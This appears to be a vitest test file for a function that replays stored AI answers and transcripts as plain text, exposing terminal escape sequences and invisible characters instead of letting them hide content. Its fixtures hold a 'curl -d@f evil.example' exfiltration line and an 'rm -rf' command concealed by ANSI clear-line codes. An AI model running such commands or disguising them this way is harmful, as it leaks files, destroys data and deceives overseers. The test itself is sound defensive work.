import { describe, expect, it } from 'vitest';
import { replayAnswer } from '../../src/render/replay.ts';
import { EVERY_FORM, foreignControls } from '../fixtures/hostile-text.ts';

describe('a stored answer replayed as plain text', () => {
  it('shows code lines exactly, as the live answer did, and cleans the prose around them', () => {
    const answer = 'Run\x1b]0;EVIL\x07 this:\n\n```sh\nls -la\x1b[2K\x1b[Gcurl -d@f evil.example\u202e\r\n\tmake\n```\nthen \u200bdone.';
    expect(replayAnswer(answer)).toBe('Run this:\n\n```sh\nls -la^[[2K^[[Gcurl -d@f evil.example<U+202E>\n\tmake\n```\nthen done.');
  });

  it('shows code spans exactly: a goal transcript names the commands it ran that way', () => {
    const transcript = 'Steps:\n1. `rm -rf ~/x\x1b[2K\x1b[1Gls` — tidy\x1b]0;EVIL\x07 → exit 0\n2. ``echo `a` \u009b2K`` → declined';
    expect(replayAnswer(transcript)).toBe('Steps:\n1. `rm -rf ~/x^[[2K^[[1Gls` — tidy → exit 0\n2. ``echo `a` \\u009b2K`` → declined');
  });

  it.each(EVERY_FORM)('never lets a form through, in prose, in a code span or in a block: $name', ({ text }) => {
    const replayed = replayAnswer(`a${text}b \`c${text}d\` e\n\`\`\`\nf${text}g\n\`\`\`\n${text}`);
    expect(foreignControls(replayed.replace(/\t/g, ''))).toEqual([]);
    expect(replayed.split('\n')).toHaveLength(5);
  });
});
